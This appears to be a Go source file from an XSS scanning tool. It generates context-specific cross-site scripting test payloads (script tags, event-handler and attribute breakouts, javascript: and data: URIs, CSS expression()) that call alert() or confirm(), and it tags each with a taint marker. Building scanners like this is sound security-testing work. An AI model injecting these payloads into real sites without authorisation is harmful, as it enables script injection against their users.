// Package payloads implements the Payload Generator: a pure function over
// a context and a small options struct producing a deterministic payload
// list, plus a categorized-file emitter. Payload strings are grounded on
// the context-breaking techniques catalogued in the teacher's
// pkg/payloads/xss_contexts.go (JSON/XML/srcdoc/data-URI/template escapes),
// generalized here to the five-context model named by the engine contract
// (HTML, ATTRIBUTE with four attribute kinds, JS, URL, CSS) rather than
// sukyan's broader multi-format reflection surface.
package payloads

import (
	"fmt"
	"net/url"
	"strings"

	"github.com/ravensec/xssentinel/pkg/model"
)

// GenerateOptions parameterizes the pure payload templates.
type GenerateOptions struct {
	AttributeKind model.AttributeKind
	Prefix        string
	Suffix        string
	URLEncode     bool
	AlertValue    string
}

func (o GenerateOptions) alertValue() string {
	if o.AlertValue == "" {
		return "1"
	}
	return o.AlertValue
}

func (o GenerateOptions) wrap(body string) string {
	out := o.Prefix + body + o.Suffix
	if o.URLEncode {
		return url.QueryEscape(out)
	}
	return out
}

// GenerateForContext produces a deterministic payload list for ctx using
// the fixed per-context (and, for ATTRIBUTE, per-attribute-kind) template
// tables below.
func GenerateForContext(ctx model.Context, opts GenerateOptions) []string {
	alert := opts.alertValue()
	switch ctx {
	case model.ContextHTML:
		return htmlTemplates(alert, opts)
	case model.ContextAttribute:
		return attributeTemplates(alert, opts)
	case model.ContextJS:
		return jsTemplates(alert, opts)
	case model.ContextURL:
		return urlTemplates(alert, opts)
	case model.ContextCSS:
		return cssTemplates(alert, opts)
	default:
		return nil
	}
}

func htmlTemplates(alert string, opts GenerateOptions) []string {
	templates := []string{
		fmt.Sprintf("<script>alert(%s)</script>", alert),
		fmt.Sprintf("<img src=x onerror=alert(%s)>", alert),
		fmt.Sprintf("<svg onload=alert(%s)>", alert),
		fmt.Sprintf("<body onload=alert(%s)>", alert),
		fmt.Sprintf("<iframe src=javascript:alert(%s)>", alert),
		fmt.Sprintf("<details open ontoggle=alert(%s)>", alert),
		fmt.Sprintf("]]><script>alert(%s)</script>", alert),
		fmt.Sprintf("--><script>alert(%s)</script><!--", alert),
		fmt.Sprintf("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(%s)\">", alert),
	}
	return wrapAll(templates, opts)
}

func attributeTemplates(alert string, opts GenerateOptions) []string {
	var templates []string
	switch opts.AttributeKind {
	case model.AttributeEventHandler:
		templates = []string{
			fmt.Sprintf("alert(%s)", alert),
			fmt.Sprintf("confirm(%s)", alert),
		}
	case model.AttributeSingleQuoted:
		templates = []string{
			fmt.Sprintf("'><script>alert(%s)</script>", alert),
			fmt.Sprintf("' autofocus onfocus=alert(%s) x='", alert),
			fmt.Sprintf("'onmouseover='alert(%s)", alert),
		}
	case model.AttributeDoubleQuoted:
		templates = []string{
			fmt.Sprintf("\"><script>alert(%s)</script>", alert),
			fmt.Sprintf("\" autofocus onfocus=alert(%s) x=\"", alert),
			fmt.Sprintf("\"onmouseover=\"alert(%s)", alert),
		}
	default: // unquoted
		templates = []string{
			fmt.Sprintf("x onmouseover=alert(%s)", alert),
			fmt.Sprintf("x autofocus onfocus=alert(%s)", alert),
			fmt.Sprintf("><script>alert(%s)</script>", alert),
		}
	}
	return wrapAll(templates, opts)
}

func jsTemplates(alert string, opts GenerateOptions) []string {
	templates := []string{
		fmt.Sprintf("';alert(%s);//", alert),
		fmt.Sprintf("\";alert(%s);//", alert),
		fmt.Sprintf("</script><script>alert(%s)</script>", alert),
		fmt.Sprintf("\"}];alert(%s);//", alert),
		fmt.Sprintf("');confirm(%s);//", alert),
	}
	return wrapAll(templates, opts)
}

func urlTemplates(alert string, opts GenerateOptions) []string {
	templates := []string{
		fmt.Sprintf("javascript:alert(%s)", alert),
		fmt.Sprintf("data:text/html,<script>alert(%s)</script>", alert),
		fmt.Sprintf("data:text/html,<img src=x onerror=alert(%s)>", alert),
		fmt.Sprintf("javascript:confirm(%s)", alert),
	}
	return wrapAll(templates, opts)
}

func cssTemplates(alert string, opts GenerateOptions) []string {
	templates := []string{
		fmt.Sprintf("</style><script>alert(%s)</script>", alert),
		fmt.Sprintf("expression(alert(%s))", alert),
		fmt.Sprintf("background:url(javascript:alert(%s))", alert),
	}
	return wrapAll(templates, opts)
}

func wrapAll(templates []string, opts GenerateOptions) []string {
	out := make([]string, len(templates))
	for i, t := range templates {
		out[i] = opts.wrap(t)
	}
	return out
}

// CategorizedFile returns the ordered list of category records covering
// HTML, each attribute kind, JS, URL, and CSS — the "categorized file"
// emitted by `payloads --generate`.
func CategorizedFile() []model.PayloadCategory {
	allBrowsers := []model.Browser{model.BrowserChromium, model.BrowserFirefox, model.BrowserWebkit}

	category := func(name, desc string, ctx model.Context, attr model.AttributeKind, opts GenerateOptions) model.PayloadCategory {
		return model.PayloadCategory{
			Name:        name,
			Description: desc,
			Context:     ctx,
			Attribute:   attr,
			Browsers:    allBrowsers,
			Payloads:    GenerateForContext(ctx, opts),
		}
	}

	return []model.PayloadCategory{
		category("html-tag-injection", "Raw HTML context tag injection", model.ContextHTML, "", GenerateOptions{}),
		category("attribute-unquoted", "Unquoted attribute value escape", model.ContextAttribute, model.AttributeUnquoted, GenerateOptions{AttributeKind: model.AttributeUnquoted}),
		category("attribute-single-quoted", "Single-quoted attribute value escape", model.ContextAttribute, model.AttributeSingleQuoted, GenerateOptions{AttributeKind: model.AttributeSingleQuoted}),
		category("attribute-double-quoted", "Double-quoted attribute value escape", model.ContextAttribute, model.AttributeDoubleQuoted, GenerateOptions{AttributeKind: model.AttributeDoubleQuoted}),
		category("attribute-event-handler", "Direct event-handler body injection", model.ContextAttribute, model.AttributeEventHandler, GenerateOptions{AttributeKind: model.AttributeEventHandler}),
		category("javascript-string-break", "JavaScript string/statement breakout", model.ContextJS, "", GenerateOptions{}),
		category("url-scheme", "javascript:/data: URL scheme injection", model.ContextURL, "", GenerateOptions{URLEncode: false}),
		category("css-expression", "CSS context breakout and legacy expression()", model.ContextCSS, "", GenerateOptions{}),
	}
}

// FlattenCategories dedups, preserving first-seen order, payloads from the
// categories compatible with browser.
func FlattenCategories(categories []model.PayloadCategory, browser model.Browser) []model.Payload {
	seen := make(map[string]bool)
	var out []model.Payload
	for _, cat := range categories {
		compatible := false
		for _, b := range cat.Browsers {
			if b == browser {
				compatible = true
				break
			}
		}
		if !compatible {
			continue
		}
		for _, v := range cat.Payloads {
			key := string(cat.Context) + "|" + string(cat.Attribute) + "|" + v
			if seen[key] {
				continue
			}
			seen[key] = true
			out = append(out, model.Payload{
				Value:         v,
				Context:       cat.Context,
				AttributeKind: cat.Attribute,
				Browsers:      cat.Browsers,
			})
		}
	}
	return out
}

// MarkerPrefix tags a payload with a unique marker used by the monitor's
// taint-sink wrapper to correlate a sink hit back to the injecting payload.
const MarkerPrefix = "xssentinel_taint_"

// WithMarker returns payload with a unique marker token spliced in via a
// harmless JS comment, so a sink seeing the marker can be attributed to
// this specific injection without altering execution semantics elsewhere.
// The marker goes before the first "alert("; a payload without one is
// returned unchanged.
func WithMarker(payload, marker string) string {
	if !strings.Contains(payload, "alert(") {
		return payload
	}
	return strings.Replace(payload, "alert(", fmt.Sprintf("/*%s*/alert(", MarkerPrefix+marker), 1)
}
